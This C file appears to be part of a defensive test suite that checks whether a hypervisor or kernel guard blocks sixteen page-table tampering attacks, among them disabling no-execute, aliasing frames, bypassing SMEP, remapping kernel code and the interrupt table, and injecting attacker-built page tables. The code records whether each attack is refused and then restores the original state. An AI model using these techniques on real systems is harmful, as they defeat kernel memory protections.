/* Page tables: the kernel's own rules about pages, changed by hand. */
#include "tests/attacks/attack.h"

/* mov $0x1234567, %eax; ret */
static const uint8_t code[] = {0xb8, 0x67, 0x45, 0x23, 0x01, 0xc3};
#define ANSWER 0x1234567u

static enum outcome call(uint64_t va)
{
	uint64_t result = 0;
	LONG st = kcall(va, 0, 0, 0, 0, &result);

	return st ? REFUSED : (uint32_t)result == ANSWER ? SUCCEEDED : FAILED;
}

/* A kernel page writable and executable, with code of ours. */
static enum outcome pte_wx(void)
{
	uint64_t va = scratch(), was;
	enum outcome o;

	kwrite(va, code, sizeof(code));
	if (call(va) != REFUSED)
		return FAILED; /* no-execute has to hold before */
	if (entry_change(va, PTE_NX, 0, &was))
		return REFUSED;
	o = call(va);
	note("pte-wx");
	entry_restore(va, was);
	return o;
}

/* The same, read-only: only the approval is missing. */
static enum outcome pte_x(void)
{
	uint64_t va = scratch(), was;
	enum outcome o;

	kwrite(va, code, sizeof(code));
	if (entry_change(va, PTE_NX | PTE_W, 0, &was))
		return REFUSED;
	o = call(va);
	note("pte-x");
	entry_restore(va, was);
	return o;
}

/* Two addresses for one frame: one to write, the other to execute. */
static enum outcome code_alias(void)
{
	uint64_t va = scratch(), was, frame = kphys(va) & PTE_FRAME;
	enum outcome o;

	if (entry_change(va + 4096, PTE_FRAME | PTE_NX | PTE_W, frame, &was))
		return REFUSED;
	kwrite(va, code, sizeof(code));
	o = call(va + 4096);
	note("code-alias");
	entry_restore(va + 4096, was);
	return o;
}

/* A writable and executable page is left behind, and nobody told: for scans at their own time.
 * Prints now and then, so that there are exits. */
static enum outcome leave_wx(void)
{
	uint64_t va = scratch(), was;

	if (entry_change(va, PTE_NX, 0, &was))
		return REFUSED;
	for (int i = 0; i < 200; i++) {
		printf("# %d\n", i);
		fflush(stdout);
		khypercall(0, 0, 0, 0, 0); /* an exit */
		Sleep(50);
	}
	entry_restore(va, was);
	return SUCCEEDED;
}

/* All the direct map executable by one bit further up. */
static enum outcome direct_map_x(void)
{
	uint64_t va = DIRECT_MAP + kphys(scratch()), was;
	enum outcome o;

	kwrite(scratch(), code, sizeof(code));
	if (entry_change(va, PTE_NX, 0, &was))
		return REFUSED;
	o = call(va);
	note("direct-map-x");
	entry_restore(va, was);
	return o;
}

/* Code in a user page, made a supervisor page so that SMEP does not see it. */
static enum outcome user_supervisor(void)
{
	uint8_t *page = VirtualAlloc(NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
	uint64_t was;
	enum outcome o;

	memcpy(page, code, sizeof(code));
	VirtualLock(page, 4096);
	if (call((uint64_t)page) != REFUSED)
		return FAILED; /* SMEP */
	if (entry_change((uint64_t)page, PTE_U, 0, &was))
		return REFUSED;
	o = call((uint64_t)page);
	note("user-supervisor");
	entry_restore((uint64_t)page, was);
	VirtualFree(page, 0, MEM_RELEASE);
	return o;
}

/* A kernel page that user mode can write. */
static enum outcome user_kernel(void)
{
	extern int user_store(volatile uint64_t * to, uint64_t value);
	uint64_t va = scratch(), was[4], at[4], e = place(VULNERABLE_CR3);
	int n = 0, ok;

	for (int shift = 39; shift >= 12; shift -= 9) {
		at[n] = DIRECT_MAP + (e & PTE_FRAME) + (va >> shift & 511) * 8;
		was[n] = e = kread64(at[n]);
		if (entry_store(at[n], e | PTE_U)) {
			while (n--)
				entry_store(at[n], was[n]);
			return REFUSED;
		}
		n++;
	}
	kflush(va, 1);
	ok = user_store((volatile uint64_t *)va, 0x1122334455667788ull);
	note("user-kernel");
	while (n--)
		entry_store(at[n], was[n]);
	kflush(va, 1);
	return ok && kread64(va) == 0x1122334455667788ull ? SUCCEEDED : FAILED;
}

/* The kernel's code stays as it is, but its address leads to a changed copy. */
static enum outcome remap(uint64_t target)
{
	static uint8_t page[4096];
	uint64_t copy = scratch(), was, changed = 0x5a5a5a5a5a5a5a5aull, old = kread64(target);
	enum outcome o;

	kread(target & ~0xfffull, page, sizeof(page));
	memcpy(page + (target & 0xfff), &changed, sizeof(changed));
	kwrite(copy, page, sizeof(page));
	if (entry_change(target, PTE_FRAME, kphys(copy) & PTE_FRAME, &was))
		return REFUSED;
	o = kread64(target) == changed ? SUCCEEDED : FAILED;
	note("remap");
	entry_restore(target, was);
	return kread64(target) == old ? o : FAILED;
}

static enum outcome remap_text(void)
{
	return remap(place(VULNERABLE_TEXT));
}

static enum outcome remap_idt(void)
{
	return remap(place(VULNERABLE_IDT) + 0x3f * 16);
}

/* A page table of the attacker's, put into the kernel's tables. */
static enum outcome own_table(void)
{
	uint64_t table[512] = {0}, va = scratch(), was, target, e, at;
	enum outcome o;

	kwrite(va, code, sizeof(code));
	table[7] = (kphys(va) & PTE_FRAME) | PTE_P | PTE_W;
	kwrite(va + 4096, table, sizeof(table));
	/* an empty entry of the page directory that maps the scratch page, far from it */
	e = place(VULNERABLE_CR3);
	for (int shift = 39; shift >= 30; shift -= 9)
		e = kread64(DIRECT_MAP + (e & PTE_FRAME) + (va >> shift & 511) * 8);
	target = (va & ~0x3fffffffull) + 0x3fe00000ull;
	at = DIRECT_MAP + (e & PTE_FRAME) + (target >> 21 & 511) * 8;
	was = kread64(at);
	if (entry_store(at, (kphys(va + 4096) & PTE_FRAME) | PTE_P | PTE_W))
		return REFUSED;
	o = call(target + 7 * 4096);
	note("own-table");
	entry_store(at, was);
	kflush(target + 7 * 4096, 1);
	return o;
}

/* ---- the tables themselves, reached by other ways ---- */

/* A page table mapped writable at another address, and an entry changed there. */
static enum outcome table_alias(void)
{
	uint64_t va = scratch(), at = entry_of(va), was, mark = 1ull << 9, v = kread64(at);
	uint64_t alias = va + 4096 + (at & 0xfff);
	enum outcome o;

	if (entry_change(va + 4096, PTE_FRAME, (at - DIRECT_MAP) & PTE_FRAME, &was))
		return REFUSED;
	o = kstore(STORE_Q, alias, v ^ mark) ? REFUSED : SUCCEEDED;
	if (o == SUCCEEDED && ((kread64(at) ^ v) & mark) == 0)
		o = FAILED;
	note("table-alias");
	kstore(STORE_Q, alias, v);
	entry_restore(va + 4096, was);
	return o;
}

/* The same for a program: its own page leads to its own page table. */
static enum outcome table_user(void)
{
	volatile uint64_t *page =
	    VirtualAlloc(NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
	uint64_t va = (uint64_t)page, was, at;
	enum outcome o = FAILED;

	*page = 1;
	VirtualLock((void *)page, 4096);
	at = entry_of(va);
	if (!entry_change(va, PTE_FRAME, (at - DIRECT_MAP) & PTE_FRAME, &was)) {
		uint64_t v = page[(at & 0xfff) / 8];

		page[(at & 0xfff) / 8] = v ^ 1ull << 10;
		o = (kread64(at) ^ v) & 1ull << 10 ? SUCCEEDED : FAILED;
		note("table-user");
		entry_restore(va, was);
	} else {
		o = REFUSED;
	}
	VirtualFree((void *)page, 0, MEM_RELEASE);
	return o;
}

/* A large page of the direct map over tables made writable. */
static enum outcome table_direct(void)
{
	uint64_t at = entry_of(scratch()), was, v = kread64(at), e = entry_of(at);

	was = kread64(e);
	if (entry_store(e, was | PTE_W))
		return REFUSED;
	kflush(at, 1);
	if (kstore(STORE_Q, at, v ^ 1ull << 9) || !((kread64(at) ^ v) & 1ull << 9))
		return FAILED;
	note("table-direct");
	kstore(STORE_Q, at, v);
	entry_store(e, was);
	kflush(at, 1);
	return SUCCEEDED;
}

/* A table of one level in the place of another: the page directory as its own page table, so that
 * all of the kernel's tables appear in an address range. */
static enum outcome table_loop(void)
{
	uint64_t va = scratch(), e = place(VULNERABLE_CR3), target, at, was, seen;

	for (int shift = 39; shift >= 30; shift -= 9)
		e = kread64(DIRECT_MAP + (e & PTE_FRAME) + (va >> shift & 511) * 8);
	target = (va & ~0x3fffffffull) + 0x3f800000ull;
	at = DIRECT_MAP + (e & PTE_FRAME) + (target >> 21 & 511) * 8;
	was = kread64(at);
	if (entry_store(at, (e & PTE_FRAME) | PTE_P | PTE_W))
		return REFUSED;
	/* page number `target's own slot` there is the directory */
	seen = kread64(target + (target >> 21 & 511) * 4096 + (target >> 21 & 511) * 8);
	note("table-loop");
	entry_store(at, was);
	kflush(target, 2 << 20);
	return (seen & PTE_FRAME) == (e & PTE_FRAME) ? SUCCEEDED : FAILED;
}

/* A slot of the top of this process's tables more than the system has. */
static enum outcome root_slot(void)
{
	uint64_t top = DIRECT_MAP + (place(VULNERABLE_CR3) & PTE_FRAME);
	uint64_t direct = kread64(top + (DIRECT_MAP >> 39 & 511) * 8), va = 0xffff960000000000ull;
	uint64_t at = top + (va >> 39 & 511) * 8, was = kread64(at);
	enum outcome o;

	if (entry_store(at, direct))
		return REFUSED;
	o = kread64(va + 0x200000) == kread64(DIRECT_MAP + 0x200000) ? SUCCEEDED : FAILED;
	note("root-slot");
	entry_store(at, was);
	kflush(va + 0x200000, 1);
	return o;
}

/* Two hundred changes that are refused: machine and log live on. */
static enum outcome table_flood(void)
{
	uint64_t at = entry_of(scratch() + 4096), was = kread64(at);
	int done = 0;

	for (int i = 0; i < 200; i++)
		done += entry_store(at, was & ~PTE_NX) == 0;
	entry_store(at, was);
	kflush(scratch() + 4096, 1);
	return done == 200 ? SUCCEEDED : done == 0 && kread64(at) == was ? REFUSED : FAILED;
}

const struct attack attacks_tables[] = {
    {"pte-wx", pte_wx},
    {"pte-x", pte_x},
    {"code-alias", code_alias},
    {"leave-wx", leave_wx},
    {"direct-map-x", direct_map_x},
    {"user-supervisor", user_supervisor},
    {"user-kernel", user_kernel},
    {"remap-text", remap_text},
    {"remap-idt", remap_idt},
    {"own-table", own_table},
    {"table-alias", table_alias},
    {"table-user", table_user},
    {"table-direct", table_direct},
    {"table-loop", table_loop},
    {"root-slot", root_slot},
    {"table-flood", table_flood},
    {0},
};
